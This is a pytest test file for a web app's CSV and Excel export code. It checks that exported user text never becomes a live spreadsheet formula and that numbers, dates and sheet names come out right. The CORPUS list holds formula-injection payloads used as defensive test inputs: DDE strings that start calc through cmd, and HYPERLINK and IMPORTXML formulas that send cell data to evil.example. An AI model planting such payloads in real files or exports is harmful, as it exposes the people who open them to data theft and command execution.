"""Tables as files: what people wrote stays text, numbers stay numbers, and both files say the same."""

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from web import sheets
from web.sheets import Sheet, as_text, write_csv, write_xlsx

SIGNS = "=+-@\t\r\n＝＋－＠"
# Each has made some spreadsheet compute, call out or start a program.
CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    'harmless";=1+1',
    "harmless;=1+1;",
    'harmless;"=1+1',
    "harmless\n=1+1",
    "harmless\t@SUM(1)",
    '",=1+1,"',
    "=IMPORTXML(CONCAT('http://evil.example?v=', A1), '//a')",
    '=DDE("cmd";"/C calc";"1")',
]
HARMLESS = ["", "Table tennis", "50 % + 10", "a=b", "Č š ž – „x“", "1e5", "0049", "it’s", "a, b; c", "a;  b"]


def csv_of(sheet: Sheet) -> str:
    out = io.StringIO(newline="")
    write_csv(out, sheet)
    return out.getvalue()


def table(*rows: tuple[Any, ...], head: tuple[str, ...] = ("Name", "Number")) -> Sheet:
    return Sheet(title="A table", head=head, rows=rows)


@pytest.mark.parametrize("text", CORPUS)
def test_no_text_is_a_formula_in_csv_however_the_line_is_split(text: str) -> None:
    written = csv_of(table((text, 1), ("Celje", text, text), head=("Name", text, "Number")))
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
            assert [cell for cell in row if cell.strip() and cell.lstrip('"')[:1] in set(SIGNS)] == []


@pytest.mark.parametrize("text", CORPUS)
def test_no_text_is_a_formula_in_a_workbook(text: str, tmp_path: Path) -> None:
    write_xlsx(tmp_path / "x.xlsx", [table((text, 1), head=(text, "Number"))], title=text)
    page = load_workbook(tmp_path / "x.xlsx").active
    assert {cell.data_type for row in page.iter_rows() for cell in row} <= {"s", "n"}
    assert page["A2"].data_type == "s"
    assert page["A2"].value.replace("_x000D_", "\r") == text  # as the format writes a carriage return
    assert page["A2"].hyperlink is None


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert as_text(text) == text


@given(st.text(max_size=40))
def test_an_apostrophe_is_all_that_is_ever_added(text: str) -> None:
    safe = as_text(text)
    assert safe[:1] not in set(SIGNS)
    assert safe.replace("'", "") == text.replace("'", "")
    assert as_text(safe) == safe


def test_numbers_below_zero_stay_numbers() -> None:
    assert csv_of(table(("Balance", -3), ("Rate", -0.5))).splitlines()[1:] == [
        '"Balance",-3',
        '"Rate",-0.5',
    ]


def test_both_files_say_the_same(tmp_path: Path) -> None:
    moment = datetime(2026, 3, 29, 0, 30, tzinfo=UTC)
    rows = [("Celje", 3, 0.5, date(2026, 3, 1), moment), ("Nardò", -1, 0.0, None, None)]
    sheet = Sheet(title="Cities", head=["City", "Count", "Share", "Day", "Moment"], rows=rows)
    with timezone.override("Europe/Ljubljana"):
        write_xlsx(tmp_path / "x.xlsx", [sheet], title="Cities")
        lines = list(csv.reader(io.StringIO(csv_of(sheet), newline="")))
    page = load_workbook(tmp_path / "x.xlsx").active
    cells = list(page.iter_rows(values_only=True))
    assert lines[1] == ["Celje", "3", "0.5", "2026-03-01", "2026-03-29 01:30"]
    assert cells[1] == ("Celje", 3, 0.5, datetime(2026, 3, 1), datetime(2026, 3, 29, 1, 30))
    assert lines[2] == ["Nardò", "-1", "0.0", "", ""]
    assert cells[2] == ("Nardò", -1, 0, None, None)


def test_a_workbook_has_a_sheet_a_table_with_its_header_frozen_in_our_green(tmp_path: Path) -> None:
    made = [table(("Housing", 1)), Sheet(title="Wide", head=["A", "B", "C"], rows=[], fixed=2)]
    write_xlsx(tmp_path / "x.xlsx", made, title="Two")
    book = load_workbook(tmp_path / "x.xlsx")
    assert book.sheetnames == ["A table", "Wide"]
    assert [page.freeze_panes for page in book] == ["B2", "C2"]
    head = book["A table"]["A1"]
    assert head.font.bold
    assert head.fill.fgColor.rgb == "FF17594A"
    assert book.properties.title == "Two"


def test_titles_that_spreadsheets_refuse_are_made_fit(tmp_path: Path) -> None:
    titles = ["Blocks: a/b [c]?*", "'quoted'", "", "x" * 40, "X" * 40, "x" * 40]
    write_xlsx(tmp_path / "x.xlsx", [Sheet(title=title, head=["A"], rows=[]) for title in titles], title="")
    names = load_workbook(tmp_path / "x.xlsx").sheetnames
    assert names[1:3] == ["quoted", "1"]
    assert len({name.casefold() for name in names}) == len(titles)
    assert max(map(len, names)) <= 31


def test_a_text_too_long_for_a_cell_is_cut_and_not_lost(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "x.xlsx", [table(("é" * 40_000, 1))], title="")
    assert load_workbook(tmp_path / "x.xlsx").active["A2"].value == "é" * 32_767


def test_more_rows_than_a_worksheet_holds_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "MOST_ROWS", 2)
    with pytest.raises(ValueError, match="holds 2 rows"):
        write_xlsx(tmp_path / "x.xlsx", [table(("a", 1), ("b", 2), ("c", 3))], title="")
